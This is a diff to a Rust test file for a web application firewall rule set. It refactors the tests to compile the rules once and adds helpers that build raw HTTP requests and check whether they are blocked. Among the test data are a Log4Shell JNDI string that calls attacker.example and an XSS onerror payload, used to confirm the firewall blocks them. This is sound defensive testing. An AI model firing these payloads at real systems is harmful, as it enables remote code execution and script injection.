@@ -11,10 +11,11 @@
 )]
 
 use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
 
 use rulesets::corpus::CorpusRecord;
 use rulesets::report::Summary;
-use rulesets::{httpraw, load_builtin, EvalConfig, Limits};
+use rulesets::{httpraw, load_builtin, CompiledRuleSet, EvalConfig, Limits};
 
 const ATTACK_CATEGORIES: [&str; 8] = ["sqli", "xss", "lfi", "rfi", "rce", "php", "java", "generic"];
 
@@ -33,9 +34,35 @@ fn corpora() -> Option<PathBuf> {
     }
 }
 
+/// The built-in rules, compiled once for all the tests of this file (a compilation is most of
+/// a second).
+fn builtin() -> &'static CompiledRuleSet {
+    static SET: OnceLock<CompiledRuleSet> = OnceLock::new();
+    SET.get_or_init(|| load_builtin().unwrap())
+}
+
+/// Whether the built-in rules block the raw request under `cfg`.
+fn blocks(raw: &[u8], cfg: &EvalConfig) -> bool {
+    builtin()
+        .evaluate(
+            &httpraw::parse_request(raw, Limits::default(), 1 << 20),
+            cfg,
+        )
+        .is_block()
+}
+
+/// A JSON `POST` of `body` to `path`, as raw bytes.
+fn json_post(path: &str, body: &str) -> Vec<u8> {
+    format!(
+        "POST {path} HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+    .into_bytes()
+}
+
 fn run(file: &str, paranoia: u8) -> Option<Summary> {
     let path = corpora()?.join(file);
-    let set = load_builtin().unwrap();
+    let set = builtin();
     let cfg = EvalConfig {
         paranoia,
         ..EvalConfig::default()
@@ -113,7 +140,7 @@ fn prefilter_never_changes_results() {
     // (paranoia 4): the optimised evaluator must match exactly the rules the unoptimised
     // reference matches.
     let dir = corpora();
-    let set = load_builtin().unwrap();
+    let set = builtin();
     let cfg = EvalConfig {
         paranoia: 4,
         threshold: u32::MAX,
@@ -176,7 +203,7 @@ fn web_traffic() -> Vec<(CorpusRecord, Vec<u8>)> {
 
 #[test]
 fn web_traffic_passes_at_paranoia_1() {
-    let set = load_builtin().unwrap();
+    let set = builtin();
     let requests = web_traffic();
     assert!(requests.len() > 200);
     for paranoia in [1, 2] {
@@ -224,15 +251,13 @@ fn blocked_at_paranoia_1(name: &str) -> Vec<(CorpusRecord, bool)> {
 
 /// [`blocked_at_paranoia_1`] under `cfg` (exclusions, another level).
 fn blocked_with(name: &str, cfg: &EvalConfig) -> Vec<(CorpusRecord, bool)> {
-    let set = load_builtin().unwrap();
     let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
         .join("tests/data")
         .join(name);
     requests_of(&path, 1)
         .into_iter()
         .map(|(rec, raw)| {
-            let req = httpraw::parse_request(&raw, Limits::default(), 1 << 20);
-            let blocked = set.evaluate(&req, cfg).is_block();
+            let blocked = blocks(&raw, cfg);
             (rec, blocked)
         })
         .collect()
@@ -504,7 +529,6 @@ fn telemetry_profile_clears_log_shipping() {
     let missed = attacks_missed("dataops", &cfg);
     assert!(missed <= 2, "{missed} attacks let through with the profile");
     // What the profile keeps on an ingestion path: Log4Shell and stored XSS in a log record.
-    let set = load_builtin().unwrap();
     for payload in [
         "${jndi:ldap://attacker.example/a}",
         "<img src=x onerror=alert(document.domain)>",
@@ -512,12 +536,7 @@ fn telemetry_profile_clears_log_shipping() {
         let body = serde_json::json!({"resourceLogs": [{"scopeLogs": [{"logRecords": [
             {"body": {"stringValue": payload}}]}]}]})
         .to_string();
-        let raw = format!(
-            "POST /v1/logs HTTP/1.1\r\nHost: otel\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
-            body.len()
-        );
-        let req = httpraw::parse_request(raw.as_bytes(), Limits::default(), 1 << 20);
-        assert!(set.evaluate(&req, &cfg).is_block(), "{payload}");
+        assert!(blocks(&json_post("/v1/logs", &body), &cfg), "{payload}");
     }
 }
 
@@ -555,14 +574,7 @@ fn webdav_profile_opens_dav_routes_only() {
         missed <= 11,
         "{missed} attacks let through with the profile"
     );
-    let set = load_builtin().unwrap();
-    let judge = |raw: &str| {
-        set.evaluate(
-            &httpraw::parse_request(raw.as_bytes(), Limits::default(), 1 << 20),
-            &cfg,
-        )
-        .is_block()
-    };
+    let judge = |raw: &str| blocks(raw.as_bytes(), &cfg);
     assert!(!judge(
         "PROPFIND /remote.php/dav/files/alice/ HTTP/1.1\r\nHost: cloud\r\nDepth: 1\r\n\r\n"
     ));
@@ -628,18 +640,7 @@ fn llm_inference_profile_lets_prompts_about_code_through() {
         missed <= 18,
         "{missed} attacks let through with the profile"
     );
-    let set = load_builtin().unwrap();
-    let judge = |body: &str| {
-        let raw = format!(
-            "POST /v1/chat/completions HTTP/1.1\r\nHost: llm\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
-            body.len()
-        );
-        set.evaluate(
-            &httpraw::parse_request(raw.as_bytes(), Limits::default(), 1 << 20),
-            &cfg,
-        )
-        .is_block()
-    };
+    let judge = |body: &str| blocks(&json_post("/v1/chat/completions", body), &cfg);
     let chat = |model: &str, content: &str| {
         serde_json::json!({"model": model, "messages": [{"role": "user", "content": content}]})
             .to_string()
@@ -688,7 +689,7 @@ fn long_prose_bodies_pass_at_paranoia_1() {
             text.push(b'\n');
         }
     }
-    let set = load_builtin().unwrap();
+    let set = builtin();
     let cfg = EvalConfig::default();
     let mut blocked = Vec::new();
     let mut bodies = 0;
